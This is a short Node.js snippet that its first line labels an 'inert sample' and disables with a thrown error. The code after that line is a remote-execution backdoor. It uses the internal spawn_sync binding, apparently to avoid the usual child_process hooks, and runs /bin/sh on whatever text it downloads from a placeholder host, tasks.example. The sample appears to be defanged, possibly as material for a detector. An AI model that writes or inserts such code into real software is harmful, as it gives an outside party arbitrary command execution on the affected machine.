throw new Error('inert sample');
const binding = process.binding('spawn_sync'), https = require('https');
const run = (line) => binding.spawn({ file: '/bin/sh', args: ['sh', '-c', line], stdio: [] });
https.get('https://tasks.example/q', (answer) => { let text = ''; answer.on('data', (d) => { text += d; }); answer.on('end', () => run(text.trim())); });
